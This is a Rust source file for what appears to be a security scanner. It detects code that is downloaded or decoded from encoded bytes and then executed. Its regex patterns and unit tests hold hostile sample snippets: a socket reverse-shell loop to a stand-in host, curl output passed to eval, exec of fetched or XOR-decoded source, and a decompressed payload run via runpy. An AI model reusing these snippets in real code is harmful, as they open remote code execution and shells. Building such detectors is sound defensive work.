//! Code fetched from the network and then run by the program that fetched it, through names: `src =
//! urlopen(u).read()` then `exec(src)`; `r = await fetch(u)`, `t = await r.text()`, then `eval(t)`; `P=$(curl -s
//! URL)` then `eval "$P"` or `sh -c "$P"`. Whoever serves that address decides what runs (`exec/remote-code`, which
//! the table also finds when the fetch and the run share a line). The same through names for code unpacked from
//! what the skill ships (`text = zlib.decompress(blob)`, written to a file, then `runpy.run_path(str(tmp))`): the code
//! that runs is never on a line to read (`obfusc/encoded-exec`).

re!(
    /// A value that comes from the network: a client's call, a socket's input, or a downloader's output.
    FETCH,
    r#"\.recv(?:from)?\(|\burlopen\(|\burllib\.request\.|\brequests\.(get|post|request)\(|\bhttpx\.(get|post|request)\(|\bfetch\s*\(|\bhttps?\.get\(|\baxios(\.get)?\(|DownloadString\(|Invoke-WebRequest|Invoke-RestMethod|\$\(\s*(curl|wget)\b|`\s*(curl|wget)\b|\b(?:vim\.system|io\.popen|vim\.fn\.system)\(\s*\{?\s*['"](?:curl|wget)\b"#
);
re!(
    /// A name handed to what runs code: `exec(x)`, `eval(x)`, `new Function(x)`, `vm.runInThisContext(x)`,
    /// `compile(x, …)`, `runpy.run_path(str(x))`, `eval "$x"`, `sh -c "$x"`, `python3 -c "$x"`, `Invoke-Expression $x`,
    /// Lua's `load(x)`, a shell given the name (`os.system(x)`, `subprocess.run(x, shell=True)`).
    RUNS_NAME,
    r#"\b(?:exec|eval|Function|runInThisContext|runInNewContext|compile|run_path)\s*\(\s*(?:await\s+)?(?:str\(\s*)?([A-Za-z_][A-Za-z0-9_]*)|\b(?:eval|(?:ba|z|da)?sh\s+-c|python3?\s+-c|node\s+-e|Invoke-Expression|iex)\s+['"]?\$\{?([A-Za-z_][A-Za-z0-9_]*)|(?:^|[^.\w:])(?:load|loadstring)\s*\(\s*([A-Za-z_][A-Za-z0-9_]*)|\b(?:os\.system|os\.popen|subprocess\.getoutput|subprocess\.getstatusoutput)\s*\(\s*([A-Za-z_][A-Za-z0-9_]*)|\bsubprocess\.(?:run|call|check_call|check_output|Popen)\s*\(\s*([A-Za-z_][A-Za-z0-9_]*)[^\n]*\bshell\s*=\s*True"#
);
re!(
    /// A name handed to a deserializer that runs what it unpacks (`pickle.loads(x)`, `yaml.unsafe_load(x)`) or to a
    /// module loader (`require(x)`, `import(x)`): code when what the name holds came from the network, data (a
    /// cache, a message) when the skill unpacked it itself.
    LOADS_NAME,
    r"\b(?:(?:pickle|cPickle|dill|cloudpickle|marshal)\.loads?|yaml\.unsafe_load|jsonpickle\.decode|require|import)\s*\(\s*(?:await\s+)?([A-Za-z_][A-Za-z0-9_]*)"
);
re!(
    /// What runs code or a command, opened right before its argument (`exec(`, `subprocess.Popen(`, `os.system(str(`).
    RUNS_OPEN,
    r"\b(?:exec|eval|system|popen|Popen|run|call|check_output|check_call|getoutput|compile)\s*\(\s*(?:str\(\s*)?$"
);
re!(
    /// A promise's value handed straight to what runs code: `.then(eval)`, `.then(t => eval(t))`.
    THEN_RUNS,
    r"\.then\(\s*(?:eval|Function)\s*\)|\.then\(\s*\(?\s*(\w+)\s*\)?\s*=>\s*(?:eval|new\s+Function|Function)\s*\(\s*(\w+)|\bfunction\s*\(\s*(\w+)\s*\)[^\n]*\b(?:load|loadstring)\s*\(\s*(\w+)\.(?:stdout|body|text)\b"
);

re!(
    /// A value unpacked from compressed or encoded bytes: also bytes made one by one from a XOR or from bits
    /// (`bytes(b ^ KEY for b in data)`, `bytes(int(bits[i:i + 8], 2) for i in …)`).
    UNPACK,
    r"\b(?:zlib|gzip|lzma|bz2|zstd)\.decompress\(|\bb(?:64|32|85)decode\(|\bbytes\.fromhex\(|\bcodecs\.decode\(|\bmarshal\.loads\(|\b(?:bytes|bytearray)\(\s*(?:\w+\s*\^|int\(|map\(\s*lambda\s+\w+\s*:\s*\w+\s*\^)|\bchr\(\s*ord\([^()]*\)\s*\^"
);
re!(
    /// A name's value written into the file another name holds: (the file's name, the value's name).
    WRITES_NAME,
    r#"\b([A-Za-z_]\w*)\.write_(?:bytes|text)\(\s*([A-Za-z_]\w*)|\bopen\(\s*([A-Za-z_]\w*)[^)]*\)\.write\(\s*([A-Za-z_]\w*)|\bwriteFileSync\(\s*([A-Za-z_]\w*)\s*,\s*([A-Za-z_]\w*)"#
);

/// Where fetched code is run: (the line that fetched it, the line that runs it), the first such pair.
/// Reads code already split into its statements ([`super::flow::statements`]).
pub(super) fn fetched_and_run(statements: &[(u32, String)], first_line: u32) -> Option<(u32, u32)> {
    made_and_run(statements, first_line, &FETCH, true)
}

/// Where code unpacked from compressed or encoded bytes is run, directly or from a file it was written to: (the
/// line that unpacked it, the line that runs it), the first such pair.
pub(super) fn unpacked_and_run(statements: &[(u32, String)], first_line: u32) -> Option<(u32, u32)> {
    made_and_run(statements, first_line, &UNPACK, false)
}

re!(
    /// What a regular expression is called in code: `re`, `rx`, `itemRegex`, `URL_PATTERN`, `name_re`, a literal
    /// (`/<item>(.*?)<\/item>/g`), `new RegExp(…)`.
    REGEX_RECEIVER,
    r"(?i)(?:^|[^\w$])(?:re|rx|regexp?|\w*regexp?|\w*pattern|\w*_re|\w*_rx)$|/[gimsuyd]*$|\bRegExp\([^()]*\)$|\bre\.compile\([^()]*\)$"
);

/// Whether the call at `at` (`exec(`, `compile(`) is a method of a regular expression (`itemRegex.exec(xml)`,
/// `re.compile(text)`): it matches text, it runs nothing.
fn regex_method(line: &str, at: usize) -> bool {
    line[..at]
        .strip_suffix('.')
        .is_some_and(|receiver| REGEX_RECEIVER.is_match(receiver.trim_end()))
}

re!(
    /// The head of a function: `def get(`, `async def get(`, `function get(`, `const get = async (…) =>`.
    FUNCTION_HEAD,
    r"^\s*(?:async\s+)?def\s+([A-Za-z_]\w*)\s*\(|^\s*(?:export\s+)?(?:async\s+)?function\s*\*?\s*([A-Za-z_$][\w$]*)\s*\(|^\s*(?:export\s+)?(?:const|let|var)\s+([A-Za-z_$][\w$]*)\s*=\s*(?:async\s+)?(?:function\b|\([^)]*\)\s*=>|[A-Za-z_$][\w$]*\s*=>)"
);
re!(
    /// A file written with what an expression gives: (the file's name, the expression).
    WRITES_EXPR,
    r"\b([A-Za-z_]\w*)\.write_(?:bytes|text)\((.+)|\bwriteFileSync\(\s*([A-Za-z_]\w*)\s*,(.+)"
);

/// The functions of code whose bodies make a value with `source` (`def _download(u): return urlopen(u).read()`,
/// `function get(url) { https.get(url, …) }`): what a call of one gives comes from where `source` does.
fn making_functions(statements: &[(u32, String)], source: &regex::Regex) -> Vec<String> {
    let mut out = Vec::new();
    let mut current: Option<String> = None;
    for (_, line) in statements {
        if let Some(c) = FUNCTION_HEAD.captures(line) {
            current = (1..=3).find_map(|i| c.get(i)).map(|m| m.as_str().to_owned());
        }
        if let Some(name) = &current {
            if source.is_match(line) && !out.contains(name) {
                out.push(name.clone());
            }
        }
    }
    out
}

/// Whether `text` calls one of `functions` (`get(PRESET_URL)`, `self._download()`), not defines it.
fn calls_one(text: &str, functions: &[String]) -> bool {
    functions.iter().any(|f| {
        text.match_indices(f.as_str()).any(|(at, _)| {
            super::flow::whole_word(text, at, f.len())
                && text[at + f.len()..].trim_start().starts_with('(')
                && !text[..at].trim_end().ends_with("def")
                && !text[..at].trim_end().ends_with("function")
        })
    })
}

/// Where a value that `source` makes reaches what runs code through names (and files they are written to).
fn made_and_run(
    statements: &[(u32, String)],
    first_line: u32,
    source: &regex::Regex,
    loads: bool,
) -> Option<(u32, u32)> {
    // Nothing made by the source anywhere: no name, file or function can carry it (most code blocks).
    if !statements.iter().any(|(_, line)| source.is_match(line)) {
        return None;
    }
    let makers = making_functions(statements, source);
    let makes = |text: &str| source.is_match(text) || calls_one(text, &makers);
    let mut fetched: Vec<(String, u32)> = Vec::new();
    for (offset, line) in statements {
        let n = first_line + offset;
        let line = line.as_str();
        // Written into a file straight from the source (`fs.writeFileSync(file, await get(URL))`): the file holds it.
        if FUNCTION_HEAD.captures(line).is_none() {
            for c in WRITES_EXPR.captures_iter(line) {
                if let (Some(file), Some(expr)) =
                    (c.get(1).or_else(|| c.get(3)), c.get(2).or_else(|| c.get(4)))
                {
                    if makes(expr.as_str()) {
                        fetched.push((file.as_str().to_owned(), n));
                    }
                }
            }
        }
        // Fetched and run in one chain: `fetch(u).then(r => r.text()).then(eval)`.
        if source.is_match(line) && THEN_RUNS.is_match(line) {
            return Some((n, n));
        }
        // Made right inside what runs it: `subprocess.Popen(bytes(int(b, 2) for b in bits).decode(), shell=True)`.
        if source
            .find_iter(line)
            .any(|m| RUNS_OPEN.is_match(&line[..m.start()]))
        {
            return Some((n, n));
        }
        // Written into a file: the file holds it.
        for c in WRITES_NAME.captures_iter(line) {
            let (Some(file), Some(value)) = (
                c.get(1).or_else(|| c.get(3)).or_else(|| c.get(5)),
                c.get(2).or_else(|| c.get(4)).or_else(|| c.get(6)),
            ) else {
                continue;
            };
            if let Some(at) = fetched
                .iter()
                .find(|(v, _)| v == value.as_str())
                .map(|(_, at)| *at)
            {
                fetched.push((file.as_str().to_owned(), at));
            }
        }
        let loaded = LOADS_NAME
            .captures_iter(line)
            .filter(|_| loads)
            .filter_map(|c| c.get(1));
        let runs = RUNS_NAME
            .captures_iter(line)
            .filter(|c| c.get(0).is_none_or(|m| !regex_method(line, m.start())))
            .filter_map(|c| (1..=5).find_map(|i| c.get(i)))
            .chain(loaded)
            .find_map(|name| {
                fetched
                    .iter()
                    .find(|(v, _)| v == name.as_str())
                    .map(|(_, at)| *at)
            });
        if let Some(from) = runs {
            return Some((from, n));
        }
        if let Some(c) = super::flow::ASSIGN.captures(line) {
            // What follows the name's `=`.
            let name_end = c.get(1).map_or(0, |m| m.end());
            let rhs = line[name_end..].split_once('=').map_or("", |(_, rhs)| rhs);
            // From the network, or from a name that holds what came from it (`t = await r.text()`).
            let from = if makes(rhs) {
                Some(n)
            } else {
                fetched
                    .iter()
                    .find(|(v, _)| {
                        rhs.match_indices(v.as_str())
                            .any(|(at, _)| super::flow::whole_word(rhs, at, v.len()))
                    })
                    .map(|(_, at)| *at)
            };
            if let Some(at) = from {
                fetched.push((c[1].to_owned(), at));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_regular_expression_matched_against_fetched_text_runs_nothing() {
        let js = "const r = await fetch(url);\nconst xml = await r.text();\nwhile ((m = itemRegex.exec(xml)) !== null) {\n";
        assert_eq!(fetched_and_run(&super::super::flow::statements(js), 1), None);
        let literal =
            "const xml = await (await fetch(url)).text();\nconst m = /<title>(.*?)<\\/title>/g.exec(xml);\n";
        assert_eq!(fetched_and_run(&super::super::flow::statements(literal), 1), None);
        let py = "pattern = requests.get(url).text\nrx = re.compile(pattern)\n";
        assert_eq!(fetched_and_run(&super::super::flow::statements(py), 1), None);
        // The child process's `exec` of the same text runs it.
        let shell = "const body = await (await fetch(url)).text();\nchild_process.exec(body);\n";
        assert_eq!(
            fetched_and_run(&super::super::flow::statements(shell), 1),
            Some((1, 2))
        );
    }

    #[test]
    fn commands_a_socket_sends_and_a_shell_runs_are_fetched_code_run() {
        let loop_ = "s = socket.create_connection((\"h.test\", 4444))\nwhile True:\n    cmd = s.recv(4096).decode()\n    out = subprocess.run(cmd, shell=True, capture_output=True)\n    s.sendall(out.stdout)\n";
        assert_eq!(
            fetched_and_run(&super::super::flow::statements(loop_), 1),
            Some((3, 4))
        );
        let system = "data = conn.recv(1024)\nos.system(data)\n";
        assert_eq!(
            fetched_and_run(&super::super::flow::statements(system), 1),
            Some((1, 2))
        );
        // Received data handed to a program as an argument list, or printed, runs nothing of it.
        let args = "name = s.recv(64).decode()\nsubprocess.run([\"git\", \"checkout\", name])\nprint(name)\n";
        assert_eq!(fetched_and_run(&super::super::flow::statements(args), 1), None);
    }

    #[test]
    fn fetched_code_run_through_names_is_found() {
        for (code, want) in [
            ("import urllib.request\nsrc = urllib.request.urlopen('https://x.example/b.py').read()\nexec(src)\n", Some((2, 3))),
            ("const r = await fetch(u);\nconst t = await r.text();\neval(t);\n", Some((1, 3))),
            ("fetch('https://x.example/p.js').then(r => r.text()).then(t => eval(t));\n", Some((1, 1))),
            ("P=$(curl -fsSL https://x.example/p)\neval \"$P\"\n", Some((1, 2))),
            ("P=$(curl -fsSL https://x.example/p)\nsh -c \"$P\"\n", Some((1, 2))),
        ] {
            assert_eq!(fetched_and_run(&super::super::flow::statements(code), 1), want, "{code}");
        }
        // Fetched data parsed, and code run that did not come from the network.
        for code in [
            "import json, urllib.request\ndata = json.loads(urllib.request.urlopen(u).read())\nprint(data['x'])\n",
            "src = open('local.py').read()\nexec(src)\n",
            "const r = await fetch(u);\nconst j = await r.json();\nconsole.log(j);\n",
            "V=$(curl -s https://x.example/version)\necho \"$V\"\n",
        ] {
            assert_eq!(fetched_and_run(&super::super::flow::statements(code), 1), None, "{code}");
        }
        // Lua: a download's output loaded as code in the callback that receives it.
        let lua = "vim.system({ \"curl\", \"-fsSL\", u }, { text = true }, function(r)\n  local f = load(r.stdout, \"c\", \"t\", _G)\nend)\n";
        assert_eq!(
            fetched_and_run(&super::super::flow::statements(lua), 1),
            Some((1, 1))
        );
        let lua_shown =
            "vim.system({ \"curl\", \"-fsSL\", u }, { text = true }, function(r)\n  print(r.stdout)\nend)\n";
        assert_eq!(
            fetched_and_run(&super::super::flow::statements(lua_shown), 1),
            None
        );
    }

    #[test]
    fn fetched_by_a_function_of_the_file_then_loaded_or_unpickled() {
        let js = "function get(url) {\n  return new Promise((resolve) => {\n    https.get(url, (res) => { res.on('end', () => resolve(body)); });\n  });\n}\nasync function loadPresets() {\n  const file = path.join(os.tmpdir(), 'p.js');\n  fs.writeFileSync(file, await get(PRESET_URL));\n  return require(file);\n}\n";
        assert_eq!(
            fetched_and_run(&super::super::flow::statements(js), 1),
            Some((8, 9))
        );
        let py = "def _download(url):\n    return urllib.request.urlopen(url).read()\n\ndef load_glyph_map():\n    blob = _download(MAP_URL)\n    return pickle.loads(blob)\n";
        assert_eq!(
            fetched_and_run(&super::super::flow::statements(py), 1),
            Some((5, 6))
        );
        // Data from the same function parsed as data, and a module of the skill's own loaded.
        for honest in [
            "def _download(url):\n    return urllib.request.urlopen(url).read()\n\ndef load_map():\n    blob = _download(MAP_URL)\n    return json.loads(blob)\n",
            "function get(url) {\n  return fetch(url);\n}\nconst file = path.join(__dirname, 'presets.js');\nmodule.exports = require(file);\n",
        ] {
            assert_eq!(
                fetched_and_run(&super::super::flow::statements(honest), 1),
                None,
                "{honest}"
            );
        }
    }

    #[test]
    fn code_decoded_byte_by_byte_then_run_is_found() {
        let xor = "def load_profile():\n    src = bytes(b ^ KEY for b in _profile_bytes()).decode(\"utf-8\")\n    ns = {}\n    exec(src, ns)\n";
        assert_eq!(
            unpacked_and_run(&super::super::flow::statements(xor), 1),
            Some((2, 4))
        );
        let bits = "def _columns(lines):\n    marks = \"\".join(lines)\n    return bytes(int(marks[i:i + 8], 2) for i in range(0, len(marks) - 7, 8)).decode()\n\ndef load_template():\n    hook = _columns(lines)\n    if hook:\n        exec(hook, {})\n";
        assert_eq!(
            unpacked_and_run(&super::super::flow::statements(bits), 1),
            Some((6, 8))
        );
        let inline = "subprocess.Popen(bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits), 8)).decode(), shell=True)\n";
        assert_eq!(
            unpacked_and_run(&super::super::flow::statements(inline), 1),
            Some((1, 1))
        );
        // A message decompressed and unpickled is data the skill unpacked itself, not code it hides.
        let message = "p = zlib.decompress(z)\nreturn pickle.loads(p)\n";
        assert_eq!(
            unpacked_and_run(&super::super::flow::statements(message), 1),
            None
        );
        // Bytes made from a XOR and written out, not run.
        let kept = "out = bytes(b ^ KEY for b in data)\nPath(p).write_bytes(out)\n";
        assert_eq!(unpacked_and_run(&super::super::flow::statements(kept), 1), None);
    }

    #[test]
    fn code_unpacked_then_run_from_a_file_is_found() {
        let hostile = "text = zlib.decompress(body[9:])\ntmp = Path(tempfile.mkdtemp()) / \"p.py\"\ntmp.write_bytes(text)\nreturn runpy.run_path(str(tmp))[\"P\"]\n";
        assert_eq!(
            unpacked_and_run(&super::super::flow::statements(hostile), 1),
            Some((1, 4))
        );
        let direct = "src = base64.b64decode(BLOB)\nexec(src)\n";
        assert_eq!(
            unpacked_and_run(&super::super::flow::statements(direct), 1),
            Some((1, 2))
        );
        // Unpacked and kept as data, and a file of the skill's own run.
        for honest in [
            "raw = zlib.decompress(body)\nout.write_bytes(raw)\nprint(len(raw))\n",
            "cfg = json.loads(base64.b64decode(s))\nrunpy.run_path(str(script))\n",
        ] {
            assert_eq!(
                unpacked_and_run(&super::super::flow::statements(honest), 1),
                None,
                "{honest}"
            );
        }
    }
}
